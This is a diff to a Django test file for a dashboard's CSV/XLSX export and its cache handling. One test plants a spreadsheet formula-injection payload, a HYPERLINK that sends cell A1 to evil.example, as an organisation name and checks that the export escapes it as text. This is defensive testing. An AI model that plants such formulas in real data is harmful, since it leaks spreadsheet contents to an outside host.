@@ -292,7 +292,8 @@ def test_agency_table_exports_as_csv_and_xlsx(client, minji, data):
 
     client.force_login(minji)
 
-    csv_body = client.get(reverse("dashboard_export", args=["csv"])).content.decode("utf-8")
+    csv_response = client.get(reverse("dashboard_export", args=["csv"]))
+    csv_body = b"".join(csv_response.streaming_content).decode("utf-8")
     workbook = load_workbook(
         BytesIO(client.get(reverse("dashboard_export", args=["xlsx"])).content)
     )
@@ -302,6 +303,31 @@ def test_agency_table_exports_as_csv_and_xlsx(client, minji, data):
     rows = list(workbook.active.iter_rows(values_only=True))
     assert rows[1][:3] == ("광주가기관", 3, 1)
     assert client.get(reverse("dashboard_export", args=["pdf"])).status_code == 404
+
+
+def test_exports_never_carry_a_live_formula(client, minji, data, agency_a):
+    """An organization named like a formula (admin typo or malice) stays text."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    agency_a.name_ko = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    agency_a.save()
+    client.force_login(minji)
+
+    csv_response = client.get(reverse("dashboard_export", args=["csv"]))
+    csv_body = b"".join(csv_response.streaming_content).decode("utf-8-sig")
+    workbook = load_workbook(
+        BytesIO(client.get(reverse("dashboard_export", args=["xlsx"])).content)
+    )
+
+    assert "\n\"'=HYPERLINK(" in csv_body
+    assert '\n"=HYPERLINK(' not in csv_body and "\n=HYPERLINK(" not in csv_body
+    cells = [row[0] for row in workbook.active.iter_rows()]
+    cell = next(c for c in cells if "HYPERLINK" in str(c.value))
+    assert cell.value == agency_a.name_ko  # reads the same to a person
+    assert cell.data_type == "s"
+    assert cell.quotePrefix
 
 
 def _grow(size, agencies, author):
@@ -372,3 +398,75 @@ def test_an_account_without_an_agency_is_not_shown_every_organization(client, db
     assert client.get(reverse("dashboard_export", args=["csv"]))["Location"] == reverse(
         "issues:list"
     )
+
+
+def test_two_different_mistakes_each_get_their_own_message(client, minji, data):
+    """The cached page is keyed on the messages themselves, not on how many there are."""
+    client.force_login(minji)
+    reversed_range = {"period": "custom", "start": "2026-06-30", "end": "2026-06-01"}
+    not_a_date = {"period": "custom", "start": "yesterday", "end": "2026-06-01"}
+    headers = {"accept-language": "en"}
+
+    first = client.get(reverse("dashboard"), reversed_range, headers=headers).content.decode()
+    second = client.get(reverse("dashboard"), not_a_date, headers=headers).content.decode()
+
+    assert "must not be after its end" in first
+    assert "YYYY-MM-DD" in second
+    assert "must not be after its end" not in second
+
+
+@pytest.fixture
+def cache_at(settings):
+    """Point the cache at a Redis server of the test's choosing (core.cache forgets failures)."""
+    from core import cache as resilient_cache
+
+    def point(url: str) -> None:
+        settings.CACHES = {
+            "default": {
+                "BACKEND": "django.core.cache.backends.redis.RedisCache",
+                "LOCATION": url,
+                "OPTIONS": {"socket_timeout": 1, "socket_connect_timeout": 1},
+            }
+        }
+        resilient_cache.reset()
+
+    yield point
+    resilient_cache.reset()
+
+
+def test_it_answers_with_its_figures_when_the_cache_refuses(client, minji, data, cache_at):
+    cache_at("redis://127.0.0.1:9/0")  # nothing listens there
+    client.force_login(minji)
+
+    response = client.get(reverse("dashboard"))
+
+    assert response.status_code == 200
+    assert response.context["headline"]["open"] == 3
+
+
+def test_it_answers_within_3_seconds_when_the_cache_hangs(
+    client, minji, data, cache_at, throwaway_redis
+):
+    cache_at(throwaway_redis.url)
+    client.force_login(minji)
+    assert client.get(reverse("dashboard")).status_code == 200  # pooled connection now open
+    throwaway_redis.hang()
+
+    timings = []
+    for _ in range(3):
+        started = time_machine_free_clock()
+        response = client.get(reverse("dashboard"), {"period": "year"})
+        timings.append(time_machine_free_clock() - started)
+        assert response.status_code == 200
+        assert response.context["headline"]["open"] == 3
+
+    assert max(timings) < 3.0
+    # Only the first request pays the cache's timeout; the next ones skip it.
+    assert timings[1] < 1.0 and timings[2] < 1.0
+
+
+def time_machine_free_clock() -> float:
+    """Wall-clock seconds that the frozen clock of this module does not stop."""
+    import time
+
+    return time.perf_counter()
